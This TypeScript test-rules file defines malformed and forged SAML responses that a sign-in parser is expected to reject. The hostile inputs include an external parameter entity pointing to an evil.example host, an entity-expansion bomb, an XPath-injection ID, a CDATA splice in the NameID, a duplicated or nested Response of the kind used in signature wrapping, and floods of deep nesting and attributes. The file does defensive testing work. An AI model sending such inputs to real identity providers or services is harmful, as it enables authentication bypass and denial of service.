import { namespace } from '../../../sign-in/saml/names.ts';
import type { Rules } from './parties.ts';
import { response, assertion, signedXml, swap, many, idOf, doubled, doctype, laughs } from './edits.ts';

/** The message as XML, and as SAML. */
export const messageRules = (): Rules => ({
  'The message is a plain XML document of limited size': {
    'with a DOCTYPE': ['malformed', response((xml) => doctype + xml)],
    'with a DOCTYPE in the assertion': ['not-genuine', signedXml((xml) => doctype + xml)],
    'with entities that multiply': ['malformed', response((xml) => `<!DOCTYPE x [${laughs}]>${xml}`)],
    'with a parameter entity': [
      'malformed',
      response((xml) => `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>${xml}`),
    ],
    'with a comment': ['malformed', response(swap('<samlp:Status>', '<!-- --><samlp:Status>'))],
    'with a processing instruction': ['malformed', response((xml) => `<?xml version="1.0"?><?x y?>${xml}`)],
    'with a processing instruction in the assertion': [
      'not-genuine',
      assertion(swap('<saml:Subject>', '<?x y?><saml:Subject>')),
    ],
    'with CDATA': ['malformed', response(swap('<samlp:Status>', '<![CDATA[x]]><samlp:Status>'))],
    'with CDATA in the NameID': ['not-genuine', assertion(swap('</saml:NameID>', '<![CDATA[.evil]]></saml:NameID>'))],
    'with an unknown entity': ['malformed', response(swap('<samlp:Status>', '&e;<samlp:Status>'))],
    'in another character set': ['malformed', response((xml) => `<?xml version="1.0" encoding="UTF-16"?>${xml}`)],
    'said to be UTF-7': ['malformed', response((xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`)],
    'with a control character': ['malformed', response(swap('<samlp:Status>', '\u0001<samlp:Status>'))],
    'with a NUL as a number': ['malformed', response(swap('<samlp:Status>', '&#0;<samlp:Status>'))],
    'with an attribute twice': ['malformed', response(swap(' Version="2.0"', ' Version="2.0" Version="2.0"'))],
    'with an unknown prefix': ['malformed', response(swap('<samlp:Status>', '<evil:x/><samlp:Status>'))],
    'not closed': ['malformed', response(swap('</samlp:Response>', ''))],
    'with text between elements': ['malformed', response(swap('<samlp:Status>', 'text<samlp:Status>'))],
    'with two roots': ['malformed', response((xml) => xml + xml)],
    'with text behind the root': ['malformed', response((xml) => `${xml}x`)],
    'nested 200 kB deep': ['malformed', response(swap('<samlp:Status>', `${'<a>'.repeat(66_000)}<samlp:Status>`))],
    'nested 200 kB deep in the assertion': ['not-genuine', signedXml(() => '<a>'.repeat(66_000))],
    'with 20,000 attributes': [
      'malformed',
      response(swap('<samlp:Status>', `<samlp:Status ${many(20_000, (n) => `a${n}=""`)}>`)),
    ],
    'with 10,000 elements': [
      'malformed',
      response(swap('<samlp:Status>', `<samlp:Extensions>${'<a/>'.repeat(10_000)}</samlp:Extensions><samlp:Status>`)),
    ],
  },
  'It is one SAML 2.0 Response with usable ids': {
    'with a root of another namespace': ['malformed', response((xml) => xml.replaceAll(namespace.protocol, 'urn:x'))],
    'with a LogoutResponse as root': [
      'malformed',
      response((xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse')),
    ],
    'with the assertion as root': [
      'malformed',
      response((xml) => /<saml:EncryptedAssertion.*<\/saml:EncryptedAssertion>/.exec(xml)?.[0] ?? ''),
    ],
    'of another version': ['malformed', response(swap('Version="2.0"', 'Version="1.1"'))],
    'without a version': ['malformed', response(swap(' Version="2.0"', ''))],
    'without an id': ['malformed', response(swap(/ ID="[^"]*"/, ''))],
    'with an id that is an XPath': ['malformed', response(swap(/ ID="[^"]*"/, ` ID="_1' or '1'='1"`))],
    'with an id twice': [
      'malformed',
      response((xml) => xml.replace('<xenc:EncryptedData', `<xenc:EncryptedData Id="${idOf(xml)}"`)),
    ],
    'with a Response inside': [
      'malformed',
      response((xml) => xml.replace('</samlp:Response>', `${xml.replace(/ ID="[^"]*"/, ' ID="_2"')}</samlp:Response>`)),
    ],
    'with an unknown element': ['malformed', response(swap('<samlp:Status>', '<samlp:Evil/><samlp:Status>'))],
    'with two encrypted assertions': [
      'malformed',
      response((xml) => doubled(xml, /<saml:EncryptedAssertion.*<\/saml:EncryptedAssertion>/)),
    ],
    'with none': ['malformed', response(swap(/<saml:EncryptedAssertion.*<\/saml:EncryptedAssertion>/, ''))],
  },
});
